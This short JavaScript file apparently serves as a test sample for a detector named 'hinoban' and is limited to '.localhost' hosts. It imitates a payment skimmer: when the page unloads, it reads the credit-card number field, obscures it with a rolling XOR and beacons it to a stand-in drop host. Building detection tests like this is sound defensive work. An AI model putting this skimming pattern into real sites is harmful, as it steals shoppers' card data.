/* Harmless imitation, for hinoban's tests: rolling XOR in a beacon as the page goes away. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('pagehide', function () {
	var v = document.querySelector('input[autocomplete=cc-number]').value, k = 91, out = '';
	for (var i = 0; i < v.length; i++) { k = (v.charCodeAt(i) ^ k) & 255; out += k.toString(16).padStart(2, '0'); }
	navigator.sendBeacon('http://drop.localhost:' + location.port + '/c', out);
});
